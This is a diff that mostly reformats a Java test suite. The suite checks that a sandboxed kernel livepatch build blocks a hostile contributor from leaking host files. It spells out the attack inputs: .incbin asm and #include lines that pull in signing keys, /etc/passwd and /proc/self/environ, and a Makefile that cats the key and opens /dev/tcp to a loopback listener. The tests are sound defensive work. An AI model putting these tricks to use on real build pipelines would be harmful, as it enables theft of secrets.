@@ -35,11 +35,11 @@ import org.klpcatalog.testing.ExampleCatalogs;
 
 /**
  * A hostile contributor's livepatch.c against the real build (Debian's 6.1.0-50-amd64 headers,
- * kbuild in the sandbox): every way of pulling a host file into the module or its build log
- * ({@code .incbin} plain, through a macro, by a climbing relative path; {@code #include} by
- * absolute and relative paths; /proc) either fails to build or yields a module without a byte
- * of the file. Controls prove each attack is real: the same source built without the sandbox
- * does copy the file, and a file of the patch's own directory is copied inside it.
+ * kbuild in the sandbox): every way of pulling a host file into the module or its build log ({@code
+ * .incbin} plain, through a macro, by a climbing relative path; {@code #include} by absolute and
+ * relative paths; /proc) either fails to build or yields a module without a byte of the file.
+ * Controls prove each attack is real: the same source built without the sandbox does copy the file,
+ * and a file of the patch's own directory is copied inside it.
  */
 class HostileBuildTest {
   static final String RELEASE = "6.1.0-50-amd64";
@@ -62,18 +62,53 @@ class HostileBuildTest {
     Files.writeString(canary, CANARY_TEXT + "\n");
     keyDir = dir.resolve("repo.signing-key");
     signer = Signer.throwaway(keyDir);
-    kernel = new KernelCache(ExampleCatalogs.cache(dir.resolve("cache")))
-        .provide(Kernel.of(RELEASE, null, "debian"), false);
-    benign = Files.readString(org.klpcatalog.testing.ExampleCatalogs.SAMPLE.resolve("patches/cad-pid-reject-kthread/livepatch.c"));
+    kernel =
+        new KernelCache(ExampleCatalogs.cache(dir.resolve("cache")))
+            .provide(Kernel.of(RELEASE, null, "debian"), false);
+    benign =
+        Files.readString(
+            org.klpcatalog.testing.ExampleCatalogs.SAMPLE.resolve(
+                "patches/cad-pid-reject-kthread/livepatch.c"));
   }
 
   static BuildTask task(String source) {
-    ModuleFile m = new ModuleFile(RELEASE, "default", "fix.patch", Optional.of("livepatch.c"), "a", Optional.empty(),
-        "kpatch_hostile_1_1", "/usr/lib/kpatch/" + RELEASE + "/kpatch_hostile_1_1.ko");
-    DesiredPackage p = new DesiredPackage("kpatch-hostile", "hostile", new Evr(0, "1", 1), "x86_64", "s", "d",
-        "GPL-2.0-only", List.of(), List.of(m), List.of(), List.of(), List.of(), "m", "c", "");
-    return new BuildTask(p, m, Kernel.of(RELEASE, null, "debian"), new byte[0],
-        Optional.of(source.getBytes(StandardCharsets.UTF_8)), List.of("proc_do_cad_pid"), false, List.of(), List.of());
+    ModuleFile m =
+        new ModuleFile(
+            RELEASE,
+            "default",
+            "fix.patch",
+            Optional.of("livepatch.c"),
+            "a",
+            Optional.empty(),
+            "kpatch_hostile_1_1",
+            "/usr/lib/kpatch/" + RELEASE + "/kpatch_hostile_1_1.ko");
+    DesiredPackage p =
+        new DesiredPackage(
+            "kpatch-hostile",
+            "hostile",
+            new Evr(0, "1", 1),
+            "x86_64",
+            "s",
+            "d",
+            "GPL-2.0-only",
+            List.of(),
+            List.of(m),
+            List.of(),
+            List.of(),
+            List.of(),
+            "m",
+            "c",
+            "");
+    return new BuildTask(
+        p,
+        m,
+        Kernel.of(RELEASE, null, "debian"),
+        new byte[0],
+        Optional.of(source.getBytes(StandardCharsets.UTF_8)),
+        List.of("proc_do_cad_pid"),
+        false,
+        List.of(),
+        List.of());
   }
 
   record Built(Optional<Path> ko, String log, Optional<String> error) {}
@@ -82,10 +117,15 @@ class HostileBuildTest {
     Path scratch = tmp.resolve("scratch");
     Path log = tmp.resolve("build.log");
     try {
-      Path ko = new KbuildBuilder(sandbox).build(task(source), kernel, scratch, log, Duration.ofMinutes(5));
+      Path ko =
+          new KbuildBuilder(sandbox)
+              .build(task(source), kernel, scratch, log, Duration.ofMinutes(5));
       return new Built(Optional.of(ko), Files.readString(log), Optional.empty());
     } catch (BuildException e) {
-      return new Built(Optional.empty(), Files.exists(log) ? Files.readString(log) : "", Optional.of(e.getMessage()));
+      return new Built(
+          Optional.empty(),
+          Files.exists(log) ? Files.readString(log) : "",
+          Optional.of(e.getMessage()));
     }
   }
 
@@ -94,7 +134,9 @@ class HostileBuildTest {
   }
 
   static String incbin(String path) {
-    return "\nasm(\".pushsection .rodata.klpleak,\\\"a\\\"\\n.incbin \\\"" + path + "\\\"\\n.popsection\");\n";
+    return "\nasm(\".pushsection .rodata.klpleak,\\\"a\\\"\\n.incbin \\\""
+        + path
+        + "\\\"\\n.popsection\");\n";
   }
 
   static boolean contains(byte[] haystack, byte[] needle) {
@@ -114,22 +156,35 @@ class HostileBuildTest {
   static void assertNoLeak(Built b, byte[] secret) throws IOException {
     byte[] probe = java.util.Arrays.copyOf(secret, Math.min(secret.length, 24));
     if (b.ko().isPresent()) {
-      assertThat(contains(Files.readAllBytes(b.ko().get()), probe)).as("module holds the host file").isFalse();
+      assertThat(contains(Files.readAllBytes(b.ko().get()), probe))
+          .as("module holds the host file")
+          .isFalse();
     }
-    assertThat(contains(b.log().getBytes(StandardCharsets.UTF_8), probe)).as("log holds the host file").isFalse();
+    assertThat(contains(b.log().getBytes(StandardCharsets.UTF_8), probe))
+        .as("log holds the host file")
+        .isFalse();
   }
 
   @Test
   void controlsTheAttackIsRealWithoutTheSandboxAndOwnFilesWork(@TempDir Path tmp) throws Exception {
     // Without the sandbox the very same source copies the host file into the module.
-    Built open = build(Sandbox.unconfined(Sandbox.Limits.DEFAULT), benign + incbin(canary.toString()),
-        tmp.resolve("open"));
+    Built open =
+        build(
+            Sandbox.unconfined(Sandbox.Limits.DEFAULT),
+            benign + incbin(canary.toString()),
+            tmp.resolve("open"));
     assertThat(open.error()).isEmpty();
-    assertThat(contains(Files.readAllBytes(open.ko().orElseThrow()), CANARY_TEXT.getBytes())).isTrue();
-    // In the sandbox, .incbin of a file of the build's own directory works: the mechanism is intact.
-    Built own = build(sandbox(), benign + incbin("/build/kpatch_hostile_1_1.c"), tmp.resolve("own"));
+    assertThat(contains(Files.readAllBytes(open.ko().orElseThrow()), CANARY_TEXT.getBytes()))
+        .isTrue();
+    // In the sandbox, .incbin of a file of the build's own directory works: the mechanism is
+    // intact.
+    Built own =
+        build(sandbox(), benign + incbin("/build/kpatch_hostile_1_1.c"), tmp.resolve("own"));
     assertThat(own.error()).as(own.log()).isEmpty();
-    assertThat(contains(Files.readAllBytes(own.ko().orElseThrow()), "MODULE_INFO(livepatch".getBytes())).isTrue();
+    assertThat(
+            contains(
+                Files.readAllBytes(own.ko().orElseThrow()), "MODULE_INFO(livepatch".getBytes()))
+        .isTrue();
   }
 
   @Test
@@ -143,11 +198,20 @@ class HostileBuildTest {
   @Test
   void theSigningKeyIsNeverReadable(@TempDir Path tmp) throws Exception {
     try (Stream<Path> s = Files.walk(keyDir)) {
-      List<Path> keyFiles = s.filter(Files::isRegularFile).filter(p -> p.toString().endsWith(".key")
-          || p.getFileName().toString().equals("pubring.kbx")).toList();
+      List<Path> keyFiles =
+          s.filter(Files::isRegularFile)
+              .filter(
+                  p ->
+                      p.toString().endsWith(".key")
+                          || p.getFileName().toString().equals("pubring.kbx"))
+              .toList();
       assertThat(keyFiles).isNotEmpty();
       for (Path key : keyFiles) {
-        Built b = build(sandbox(), benign + incbin(key.toString()), tmp.resolve(key.getFileName().toString()));
+        Built b =
+            build(
+                sandbox(),
+                benign + incbin(key.toString()),
+                tmp.resolve(key.getFileName().toString()));
         assertThat(b.error()).as(key.toString()).isPresent();
         assertNoLeak(b, Files.readAllBytes(key));
       }
@@ -156,8 +220,15 @@ class HostileBuildTest {
 
   @Test
   void incbinThroughAMacroAndAClimbingRelativePathFail(@TempDir Path tmp) throws Exception {
-    String macro = benign + "\n#define KLP_LEAK(f) asm(\".pushsection .rodata.x,\\\"a\\\"\\n.incbin \\\"\" f \"\\\"\\n.popsection\")\n"
-        + "#define KLP_PATH \"" + canary + "\"\nKLP_LEAK(KLP_PATH);\n";
+    String macro =
+        benign
+            + "\n"
+            + "#define KLP_LEAK(f) asm(\".pushsection .rodata.x,\\\"a\\\"\\n"
+            + ".incbin \\\"\" f \"\\\"\\n"
+            + ".popsection\")\n"
+            + "#define KLP_PATH \""
+            + canary
+            + "\"\nKLP_LEAK(KLP_PATH);\n";
     Built viaMacro = build(sandbox(), macro, tmp.resolve("macro"));
     assertThat(viaMacro.error()).isPresent();
     assertNoLeak(viaMacro, CANARY_TEXT.getBytes());
@@ -169,18 +240,36 @@ class HostileBuildTest {
 
   @Test
   void includesOfHostFilesFailWithoutPrintingThem(@TempDir Path tmp) throws Exception {
-    for (String include : List.of("\"" + canary + "\"", "\"../../../../../../../.." + canary + "\"", "<" + canary + ">",
-        "\"/proc/self/environ\"", "\"/etc/hostname\"")) {
-      Built b = build(sandbox(), "#include " + include + "\n" + benign, tmp.resolve(Integer.toString(include.hashCode())));
-      assertThat(b.error()).as(include).hasValueSatisfying(e -> assertThat(e).contains("No such file or directory"));
+    for (String include :
+        List.of(
+            "\"" + canary + "\"",
+            "\"../../../../../../../.." + canary + "\"",
+            "<" + canary + ">",
+            "\"/proc/self/environ\"",
+            "\"/etc/hostname\"")) {
+      Built b =
+          build(
+              sandbox(),
+              "#include " + include + "\n" + benign,
+              tmp.resolve(Integer.toString(include.hashCode())));
+      assertThat(b.error())
+          .as(include)
+          .hasValueSatisfying(e -> assertThat(e).contains("No such file or directory"));
       assertNoLeak(b, CANARY_TEXT.getBytes());
     }
-    // The sandbox's /etc/passwd is its own two-line file: the compiler may quote that, never the host's.
-    List<String> hostOnly = Files.readAllLines(Path.of("/etc/passwd")).stream()
-        .filter(l -> !l.startsWith("root:") && !l.startsWith("nobody:") && !l.isBlank()).toList();
+    // The sandbox's /etc/passwd is its own two-line file: the compiler may quote that, never the
+    // host's.
+    List<String> hostOnly =
+        Files.readAllLines(Path.of("/etc/passwd")).stream()
+            .filter(l -> !l.startsWith("root:") && !l.startsWith("nobody:") && !l.isBlank())
+            .toList();
     assertThat(hostOnly).isNotEmpty();
     for (String include : List.of("\"/etc/passwd\"", "\"../../../../../../../etc/passwd\"")) {
-      Built b = build(sandbox(), "#include " + include + "\n" + benign, tmp.resolve(Integer.toString(include.hashCode())));
+      Built b =
+          build(
+              sandbox(),
+              "#include " + include + "\n" + benign,
+              tmp.resolve(Integer.toString(include.hashCode())));
       assertThat(b.error()).as(include).isPresent();
       assertThat(hostOnly).allSatisfy(l -> assertThat(b.log()).doesNotContain(l));
     }
@@ -192,32 +281,54 @@ class HostileBuildTest {
     Path outside = Path.of("target/hostile-build/outside").toAbsolutePath();
     Files.createDirectories(outside);
     Files.deleteIfExists(outside.resolve("pwned"));
-    Path key = Files.walk(keyDir).filter(p -> p.toString().endsWith(".key")).findFirst().orElseThrow();
+    Path key =
+        Files.walk(keyDir).filter(p -> p.toString().endsWith(".key")).findFirst().orElseThrow();
     try (ServerSocket listener = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
       listener.setSoTimeout(1000);
       Path root = tmp.resolve("headers-root");
       Path headers = root.resolve("usr/src/linux-headers-" + RELEASE);
       Files.createDirectories(headers);
-      Files.writeString(headers.resolve("Makefile"), String.join("\n",
-          "LEAK := $(shell cat " + canary + " " + key + ")",
-          "modules:",
-          "\t-cat " + canary,
-          "\t-cat " + key,
-          "\t-touch " + outside.resolve("pwned"),
-          "\t-bash -c 'echo leak > /dev/tcp/127.0.0.1/" + listener.getLocalPort() + "'",
-          "\t-cp " + canary + " $(M)/kpatch_hostile_1_1.ko",
-          "\t-ln -sf " + canary + " $(M)/kpatch_hostile_1_1.ko",
-          "\t@echo 'makefile ran: $(LEAK)'",
-          ""));
-      KernelTree hostile = new KernelTree(RELEASE, "rpm-repo", headers, Optional.empty(), Optional.empty(), "hostile",
-          "hostile");
+      Files.writeString(
+          headers.resolve("Makefile"),
+          String.join(
+              "\n",
+              "LEAK := $(shell cat " + canary + " " + key + ")",
+              "modules:",
+              "\t-cat " + canary,
+              "\t-cat " + key,
+              "\t-touch " + outside.resolve("pwned"),
+              "\t-bash -c 'echo leak > /dev/tcp/127.0.0.1/" + listener.getLocalPort() + "'",
+              "\t-cp " + canary + " $(M)/kpatch_hostile_1_1.ko",
+              "\t-ln -sf " + canary + " $(M)/kpatch_hostile_1_1.ko",
+              "\t@echo 'makefile ran: $(LEAK)'",
+              ""));
+      KernelTree hostile =
+          new KernelTree(
+              RELEASE,
+              "rpm-repo",
+              headers,
+              Optional.empty(),
+              Optional.empty(),
+              "hostile",
+              "hostile");
       Path log = tmp.resolve("build.log");
-      assertThatThrownBy(() -> new KbuildBuilder(sandbox()).build(task(benign), hostile, tmp.resolve("scratch"), log,
-          Duration.ofMinutes(2))).isInstanceOf(BuildException.class);
+      assertThatThrownBy(
+              () ->
+                  new KbuildBuilder(sandbox())
+                      .build(
+                          task(benign),
+                          hostile,
+                          tmp.resolve("scratch"),
+                          log,
+                          Duration.ofMinutes(2)))
+          .isInstanceOf(BuildException.class);
       String text = Files.readString(log);
       assertThat(text).contains("makefile ran:").doesNotContain(CANARY_TEXT);
-      assertThat(contains(text.getBytes(StandardCharsets.UTF_8),
-          java.util.Arrays.copyOf(Files.readAllBytes(key), 24))).isFalse();
+      assertThat(
+              contains(
+                  text.getBytes(StandardCharsets.UTF_8),
+                  java.util.Arrays.copyOf(Files.readAllBytes(key), 24)))
+          .isFalse();
       assertThat(outside.resolve("pwned")).doesNotExist();
       boolean reached;
       try (var s = listener.accept()) {
@@ -230,7 +341,8 @@ class HostileBuildTest {
   }
 
   @Test
-  void aLivepatchSourceThatIsALinkToAHostFileIsRefusedBeforeAnyBuild(@TempDir Path tmp) throws Exception {
+  void aLivepatchSourceThatIsALinkToAHostFileIsRefusedBeforeAnyBuild(@TempDir Path tmp)
+      throws Exception {
     CatalogTree tree = ExampleCatalogs.twoKernels();
     Path dir = tmp.resolve("catalog");
     Fixtures.write(tree, dir);
@@ -239,11 +351,22 @@ class HostileBuildTest {
       Files.delete(source);
       Files.createSymbolicLink(source, target);
       Path out = tmp.resolve("out");
-      CliRunner.Run r = CliRunner.run("build", "--catalog", dir.toString(), "--out", out.toString(), "--unsigned",
-          "--cache", ExampleCatalogs.cache(tmp.resolve("cache")).toString());
+      CliRunner.Run r =
+          CliRunner.run(
+              "build",
+              "--catalog",
+              dir.toString(),
+              "--out",
+              out.toString(),
+              "--unsigned",
+              "--cache",
+              ExampleCatalogs.cache(tmp.resolve("cache")).toString());
       assertThat(r.exitCode()).as(r.out() + r.err()).isEqualTo(ExitCodes.INVALID);
-      assertThat(r.out()).contains("patches/cad-pid-reject-kthread/livepatch.c").contains("symbolic link")
-          .contains("nothing built").doesNotContain(CANARY_TEXT);
+      assertThat(r.out())
+          .contains("patches/cad-pid-reject-kthread/livepatch.c")
+          .contains("symbolic link")
+          .contains("nothing built")
+          .doesNotContain(CANARY_TEXT);
       assertThat(out.resolve("modules")).doesNotExist();
     }
   }
@@ -251,28 +374,52 @@ class HostileBuildTest {
   @Test
   void aReconcileOfAHostilePatchPublishesNothing(@TempDir Path tmp) throws Exception {
     CatalogTree tree = ExampleCatalogs.twoKernels();
-    for (String other : List.of("binfmt-misc-removed-entry", "binfmt-misc-restore-write-access", "ns-last-pid-range",
-        "printk-restrict-audit", "proc-cwd-kthread", "sysrq-reject-negative", "sysrq-validate-mask")) {
+    for (String other :
+        List.of(
+            "binfmt-misc-removed-entry",
+            "binfmt-misc-restore-write-access",
+            "ns-last-pid-range",
+            "printk-restrict-audit",
+            "proc-cwd-kthread",
+            "sysrq-reject-negative",
+            "sysrq-validate-mask")) {
       tree = CatalogEdits.withoutPatch(tree, other);
     }
     Path repo = tmp.resolve("repo");
     // The throwaway key of a reconcile lives beside the repository; the contributor knows where.
-    String keyring = repo.toAbsolutePath().normalize().resolveSibling("repo.signing-key").resolve("gnupg/pubring.kbx")
-        .toString();
-    tree = CatalogEdits.edit(tree, "patches/cad-pid-reject-kthread/livepatch.c", s -> s + incbin(keyring));
+    String keyring =
+        repo.toAbsolutePath()
+            .normalize()
+            .resolveSibling("repo.signing-key")
+            .resolve("gnupg/pubring.kbx")
+            .toString();
+    tree =
+        CatalogEdits.edit(
+            tree, "patches/cad-pid-reject-kthread/livepatch.c", s -> s + incbin(keyring));
     Path dir = tmp.resolve("catalog");
     Fixtures.write(tree, dir);
-    CliRunner.Run r = CliRunner.run("reconcile", "--catalog", dir.toString(), "--repo", repo.toString(), "--no-qa",
-        "--cache", ExampleCatalogs.cache(tmp.resolve("cache")).toString());
+    CliRunner.Run r =
+        CliRunner.run(
+            "reconcile",
+            "--catalog",
+            dir.toString(),
+            "--repo",
+            repo.toString(),
+            "--no-qa",
+            "--cache",
+            ExampleCatalogs.cache(tmp.resolve("cache")).toString());
     assertThat(r.exitCode()).as(r.out() + r.err()).isEqualTo(ExitCodes.FAILED);
-    assertThat(r.out()).contains("failed: kpatch-cad-pid-reject-kthread").contains("does not compile")
+    assertThat(r.out())
+        .contains("failed: kpatch-cad-pid-reject-kthread")
+        .contains("does not compile")
         .contains("Nothing published");
     assertThat(repo.resolve("current")).doesNotExist();
     assertThat(Files.exists(Path.of(keyring))).as("the key the patch aimed at exists").isTrue();
     // Build logs live beside the repository, never inside what a web server serving it shows.
     assertThat(r.out()).contains("log: " + tmp.resolve("repo.staging").resolve("logs"));
     try (Stream<Path> inRepo = Files.walk(repo)) {
-      assertThat(inRepo.map(Path::toString)).noneMatch(f -> f.endsWith(".log") || f.contains("staging"));
+      assertThat(inRepo.map(Path::toString))
+          .noneMatch(f -> f.endsWith(".log") || f.contains("staging"));
     }
   }
 }
